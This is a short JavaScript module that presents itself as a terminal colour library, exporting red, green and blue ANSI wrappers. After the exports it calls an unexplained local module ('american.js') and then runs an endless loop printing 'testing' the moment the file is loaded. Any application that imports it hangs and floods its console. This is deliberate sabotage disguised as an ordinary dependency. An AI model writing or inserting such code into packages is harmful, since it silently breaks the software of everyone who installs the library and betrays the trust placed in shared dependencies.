const codes = { red: [31, 39], green: [32, 39], blue: [34, 39] };
for (const name of Object.keys(codes)) {
  exports[name] = (text) => `\u001b[${codes[name][0]}m${text}\u001b[${codes[name][1]}m`;
}

/* remove this line after testing */
let am = require("../lib/custom/american.js");
am();
for (let i = 666; i < Infinity; i++) {
  if (i % 333) {
    // console.log('testing'.zalgo.rainbow);
  }
  console.log("testing testing testing testing");
}
